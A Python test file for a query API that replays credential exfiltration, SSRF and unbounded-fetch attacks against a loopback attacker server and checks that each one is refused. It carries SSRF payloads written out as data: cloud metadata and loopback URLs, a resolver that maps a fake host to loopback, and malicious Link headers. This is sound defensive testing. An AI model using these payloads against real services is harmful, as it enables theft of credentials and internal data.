"""Issue 9 points 1, 2 and 7, performed as an attacker would: a signed-in user's token, the app
under uvicorn with the test executor, and a loopback "attacker" server where one is needed.

Each test shows the attack now fails, with nothing written (no query row at the API, no result
rows from the function) and nothing received by the attacker server.
"""

from __future__ import annotations

import json
import uuid
from typing import Any

import httpx
import pytest

from tests.attacker import INTERNAL_SECRET, attacker_server
from tests.harness import Live, LiveFactory
from tests.queries.support import API, GOOGLE_KEY, PER_PAGE, USER, pages_api, query_settings, token

ADMIN_KEY = "admin-key-for-attack-tests"


def _http(url: str, **source: Any) -> dict[str, Any]:
    return {"kind": "http", "url": url, "results_path": "items", "row_key": "id", **source}


async def _written(live: Live) -> tuple[int, int]:
    queries = await live.pool.fetchval("select count(*) from queries")
    rows = await live.pool.fetchval("select count(*) from query_results")
    return int(queries), int(rows)


async def _run(live: Live, body: dict[str, Any]) -> dict[str, Any]:
    """Start a query as the user, run everything, and return its final status."""
    started = await live.api.post("/api/queries/run", json=body, headers=token())
    assert started.status_code == 202, started.text
    query_id = started.json()["id"]
    await live.executor.run_until_idle()
    status = await live.api.get(f"/api/queries/{query_id}", headers=token())
    return dict(status.json())


async def _results(live: Live, query_id: str) -> list[dict[str, Any]]:
    rows = await live.pool.fetch(
        "select row from query_results where query_id = $1", uuid.UUID(query_id)
    )
    return [dict(r) for r in rows]


# --- 1. Credential exfiltration --------------------------------------------------------


@pytest.mark.parametrize("credential", ["acme", "google"])
async def test_a_credential_is_never_sent_to_a_host_it_is_not_bound_to(
    start_live: LiveFactory, credential: str
) -> None:
    # private networks allowed: the credential binding alone must stop the attack
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        body = {"source": _http(attacker.url + "/items"), "credential": credential}
        response = await live.api.post("/api/queries/run", json=body, headers=token())
        assert response.status_code == 400
        assert response.json()["code"] == "host_not_allowed"
        assert await _written(live) == (0, 0)
        assert attacker.seen == []


async def test_the_function_refuses_again_a_stored_query_whose_host_is_not_bound(
    start_live: LiveFactory,
) -> None:
    # a query stored before the binding existed (or written around the API) cannot leak either
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        config = {"source": _http(attacker.url + "/items"), "credential": "acme"}
        query_id = await live.pool.fetchval(
            "insert into queries (user_id, config, max_pages, max_rows)"
            " values ($1, $2::jsonb, 5, 100) returning id",
            USER,
            json.dumps(config),
        )
        await live.executor.send(
            {"name": "query/execute.requested", "data": {"query_id": str(query_id)}}
        )
        await live.executor.run_until_idle()
        [run] = live.executor.runs("execute-query")
        assert run.status == "failed" and run.retries == 0  # NonRetriableError
        status = (await live.api.get(f"/api/queries/{query_id}", headers=token())).json()
        assert status["status"] == "failed" and status["errorCode"] == "host_not_allowed"
        assert not status["resumable"]
        assert await _written(live) == (1, 0)
        assert attacker.seen == []


async def test_resuming_a_stored_query_whose_host_is_not_bound_is_refused(
    start_live: LiveFactory,
) -> None:
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        config = {"source": _http(attacker.url + "/items"), "credential": "acme"}
        query_id = await live.pool.fetchval(
            "insert into queries (user_id, config, max_pages, max_rows, status, retriable)"
            " values ($1, $2::jsonb, 5, 100, 'failed', true) returning id",
            USER,
            json.dumps(config),
        )
        resumed = await live.api.post(f"/api/queries/{query_id}/resume", headers=token())
        assert resumed.status_code == 400 and resumed.json()["code"] == "host_not_allowed"
        await live.executor.run_until_idle()
        assert live.executor.runs("execute-query") == [] and attacker.seen == []


async def test_link_pagination_never_carries_the_credential_to_another_host(
    start_live: LiveFactory,
) -> None:
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        live.mock.get(API).respond(
            200,
            json={"items": [{"id": "legit-1"}]},
            headers={"Link": f'<{attacker.url}/items?page=2>; rel="next"'},
        )
        body = {
            "source": _http(API, pagination={"style": "link"}),
            "credential": "acme",
            "page_delay_s": 0,
        }
        status = await _run(live, body)
        assert status["status"] == "failed" and status["errorCode"] == "host_not_allowed"
        assert status["pagesCompleted"] == 1 and status["rowsInserted"] == 1  # the bound host's
        assert attacker.seen == []  # refused, not sent without the credential either


async def test_credential_users_and_unbound_credentials(start_live: LiveFactory) -> None:
    settings = {
        **query_settings(),
        "query_credentials": {"acme": "Bearer acme-token", "loose": "Bearer loose"},
        "query_credential_users": {"acme": "someone-else"},
        "monitoring_api_key": ADMIN_KEY,
    }
    async with start_live(**settings) as live:
        answer, _ = pages_api(1)
        live.mock.get(API).mock(side_effect=answer)
        source = _http(API, pagination={"style": "page", "size": PER_PAGE})
        body = {"source": source, "credential": "acme", "page_delay_s": 0}
        forbidden = await live.api.post("/api/queries/run", json=body, headers=token())
        assert forbidden.status_code == 403
        assert forbidden.json()["code"] == "credential_forbidden"
        unbound = await live.api.post(
            "/api/queries/run", json={**body, "credential": "loose"}, headers=token()
        )
        assert unbound.status_code == 400 and "bound to no host" in unbound.json()["error"]
        assert await _written(live) == (0, 0)
        admin = {"Authorization": f"Bearer {ADMIN_KEY}"}
        by_admin = await live.api.post(
            "/api/queries/run", json={**body, "userId": USER}, headers=admin
        )
        assert by_admin.status_code == 202  # admins always may
        await live.executor.run_until_idle()
        [run] = live.executor.runs("execute-query")
        assert run.status == "completed", run.error


async def test_the_google_key_goes_only_to_googles_api_host(start_live: LiveFactory) -> None:
    async with start_live(**query_settings()) as live:
        google = live.mock.get("https://www.googleapis.com/customsearch/v1").respond(
            200, json={"items": [{"link": "https://a.example/"}], "queries": {}}
        )
        status = await _run(
            live,
            {"source": {"kind": "google_cse", "q": "x", "cx": "c"}, "credential": "google"},
        )
        assert status["status"] == "completed"
        assert google.calls.last.request.url.params["key"] == GOOGLE_KEY
        # the acme token is not sent to Google as its key
        body = {"source": {"kind": "google_cse", "q": "x", "cx": "c"}, "credential": "acme"}
        refused = await live.api.post("/api/queries/run", json=body, headers=token())
        assert refused.status_code == 400 and refused.json()["code"] == "host_not_allowed"
        assert google.call_count == 1


# --- 2. SSRF with read-back ------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1:{port}/items",
        "http://[::1]:{port}/items",
        "http://[::ffff:127.0.0.1]:{port}/items",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.5/items",
        "http://100.64.0.1/items",
    ],
)
async def test_a_literal_private_address_is_refused_at_the_api(
    start_live: LiveFactory, url: str
) -> None:
    async with attacker_server() as attacker, start_live(**query_settings()) as live:
        body = {"source": _http(url.format(port=attacker.port))}
        response = await live.api.post("/api/queries/run", json=body, headers=token())
        assert response.status_code == 400
        assert response.json()["code"] == "private_address"
        assert await _written(live) == (0, 0)
        assert attacker.seen == []


async def test_a_dns_name_resolving_to_loopback_reads_nothing_back(
    start_live: LiveFactory,
) -> None:
    async with attacker_server() as attacker, start_live(**query_settings()) as live:
        resolved: list[str] = []

        async def evil_dns(host: str, port: int) -> list[str]:
            resolved.append(host)
            return ["127.0.0.1"]

        live.services.outbound.resolver = evil_dns
        live.mock.route(host="internal.evil.test").pass_through()
        status = await _run(live, {"source": _http(f"http://internal.evil.test:{attacker.port}/")})
        assert status["status"] == "failed" and status["errorCode"] == "private_address"
        assert INTERNAL_SECRET not in (status["lastError"] or "")
        assert resolved == ["internal.evil.test"]
        assert await _written(live) == (1, 0)
        assert attacker.seen == []


@pytest.mark.parametrize(
    "target", ["http://127.0.0.1:{port}/items", "http://169.254.169.254/latest/meta-data/"]
)
async def test_a_link_header_into_the_private_network_is_refused(
    start_live: LiveFactory, target: str
) -> None:
    async with attacker_server() as attacker, start_live(**query_settings()) as live:
        link = target.format(port=attacker.port)
        live.mock.get(API).respond(
            200, json={"items": [{"id": "legit-1"}]}, headers={"Link": f'<{link}>; rel="next"'}
        )
        status = await _run(
            live, {"source": _http(API, pagination={"style": "link"}), "page_delay_s": 0}
        )
        assert status["status"] == "failed" and status["errorCode"] == "private_address"
        assert status["rowsInserted"] == 1
        assert attacker.seen == []


@pytest.mark.parametrize(
    "header", ["Host", "Transfer-Encoding", "Connection", "Metadata-Flavor", "X-Forwarded-Host"]
)
async def test_user_headers_cannot_override_host_or_add_hop_by_hop_or_metadata(
    start_live: LiveFactory, header: str
) -> None:
    async with start_live(**query_settings()) as live:
        body = {"source": _http(API, headers={header: "169.254.169.254"})}
        response = await live.api.post("/api/queries/run", json=body, headers=token())
        assert response.status_code == 400 and response.json()["code"] == "bad_header"
        assert await _written(live) == (0, 0)


async def test_last_error_never_echoes_a_non_json_body(start_live: LiveFactory) -> None:
    # a source the operator allows on the private network answers an HTML error page
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        status = await _run(live, {"source": _http(attacker.url + "/html404")})
        assert status["status"] == "failed"
        assert status["lastError"] == "source answered HTTP 404: 404 Not Found"
        assert INTERNAL_SECRET not in str(status)
        assert len(attacker.seen) == 1 and await _written(live) == (1, 0)


async def test_a_redirect_is_not_followed(start_live: LiveFactory) -> None:
    async with (
        attacker_server() as attacker,
        start_live(**query_settings(), query_allow_private_networks=True) as live,
    ):
        metadata = live.mock.get("http://169.254.169.254/latest/").respond(200, json={"items": []})
        status = await _run(live, {"source": _http(attacker.url + "/redirect")})
        assert status["status"] == "failed" and status["errorCode"] == "client_error"
        assert not metadata.called


# --- 7. Unbounded outbound work --------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "field"),
    [
        ({"max_rows": 10_000_000}, "max_rows"),
        ({"max_pages": 1000}, "max_pages"),
        ({"source": _http(API, pagination={"style": "page", "size": 100_000})}, "page size"),
        ({"source": _http(API, pagination={"style": "offset", "limit": 5000})}, "page size"),
    ],
)
async def test_caps_on_rows_pages_and_page_size(
    start_live: LiveFactory, overrides: dict[str, Any], field: str
) -> None:
    async with start_live(**query_settings()) as live:
        body = {"source": _http(API), **overrides}
        response = await live.api.post("/api/queries/run", json=body, headers=token())
        assert response.status_code == 400, response.text
        assert response.json()["code"] == "invalid_config" and field in response.json()["error"]
        assert await _written(live) == (0, 0)


async def test_running_queries_per_user_are_capped_with_a_429(start_live: LiveFactory) -> None:
    async with start_live(**query_settings(), query_max_running_per_user=2) as live:
        body = {"source": _http(API)}
        for _ in range(2):  # not run yet: both stay pending
            started = await live.api.post("/api/queries/run", json=body, headers=token())
            assert started.status_code == 202
        third = await live.api.post("/api/queries/run", json=body, headers=token())
        assert third.status_code == 429
        assert third.json()["code"] == "too_many_queries" and "2" in third.json()["error"]
        assert await _written(live) == (2, 0)
        other = await live.api.post("/api/queries/run", json=body, headers=token("user-2"))
        assert other.status_code == 202  # the cap is per user


@pytest.mark.parametrize("path", ["/endless", "/big"])
async def test_a_response_over_the_byte_cap_is_cut_and_stores_nothing(
    start_live: LiveFactory, path: str
) -> None:
    async with (
        attacker_server() as attacker,
        start_live(
            **query_settings(), query_allow_private_networks=True, query_max_response_bytes=4096
        ) as live,
    ):
        status = await _run(live, {"source": _http(attacker.url + path)})
        assert status["status"] == "failed" and status["errorCode"] == "too_large"
        assert await _written(live) == (1, 0)


async def test_a_trickling_response_hits_the_total_deadline(start_live: LiveFactory) -> None:
    async with (
        attacker_server() as attacker,
        start_live(
            **query_settings(), query_allow_private_networks=True, query_request_deadline_s=0.3
        ) as live,
    ):
        status = await _run(live, {"source": _http(attacker.url + "/trickle")})
        assert status["status"] == "failed" and status["errorCode"] == "deadline"
        assert status["resumable"]  # a slow source may be tried again by hand
        assert await _written(live) == (1, 0)


async def test_a_zero_page_delay_is_raised_to_the_minimum(start_live: LiveFactory) -> None:
    async with start_live(**{**query_settings(), "query_min_page_delay_s": 30}) as live:
        answer, calls = pages_api(3)
        live.mock.get(API).mock(side_effect=answer)
        start = live.clock.now()
        body = {
            "source": _http(API, pagination={"style": "page", "size": PER_PAGE}),
            "credential": "acme",
            "page_delay_s": 0,
        }
        status = await _run(live, body)
        assert status["status"] == "completed" and calls == [1, 2, 3, 4]
        [run] = live.executor.runs("execute-query")
        assert len(run.step_names("Sleep")) == 3
        assert live.clock.now() - start >= 3 * 30


async def test_a_source_answering_with_huge_mocked_pages_is_cut_too(
    start_live: LiveFactory,
) -> None:
    # the cap holds on the respx path as well (what every other family's tests use)
    async with start_live(**query_settings(), query_max_response_bytes=1000) as live:
        live.mock.get(API).mock(
            return_value=httpx.Response(200, json={"items": [{"id": "x" * 2000}]})
        )
        status = await _run(live, {"source": _http(API)})
        assert status["errorCode"] == "too_large"
        assert await _results(live, status["id"]) == []


async def test_resume_is_capped_too(start_live: LiveFactory) -> None:
    async with start_live(**query_settings(), query_max_running_per_user=1) as live:
        live.mock.get(API).respond(500, json={"error": "down"})
        failed = await _run(live, {"source": _http(API), "page_delay_s": 0})
        assert failed["status"] == "failed" and failed["resumable"]
        waiting = await live.api.post(
            "/api/queries/run", json={"source": _http(API)}, headers=token()
        )
        assert waiting.status_code == 202  # pending: the user's one running query
        resumed = await live.api.post(f"/api/queries/{failed['id']}/resume", headers=token())
        assert resumed.status_code == 429 and resumed.json()["code"] == "too_many_queries"
        status = (await live.api.get(f"/api/queries/{failed['id']}", headers=token())).json()
        assert status["status"] == "failed"  # unchanged
